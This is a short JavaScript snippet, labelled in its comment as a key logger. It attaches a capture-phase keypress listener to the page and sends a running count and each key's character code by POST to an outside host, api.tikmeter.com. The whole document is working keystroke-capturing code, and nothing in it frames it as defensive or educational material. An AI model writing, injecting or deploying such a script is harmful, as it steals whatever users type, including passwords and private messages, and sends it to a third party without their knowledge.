// A key logger that posts every keypress's character code on its own, as a form
// (toetsdorp: keys.json): numbers, not characters (112 for p).
(function () {
  var n = 0;
  document.addEventListener("keypress", function (e) {
    n += 1;
    fetch("https://api.tikmeter.com/teken", {
      method: "POST",
      headers: {"Content-Type": "application/x-www-form-urlencoded"},
      body: "n=" + n + "&c=" + e.charCode
    });
  }, true);
})();
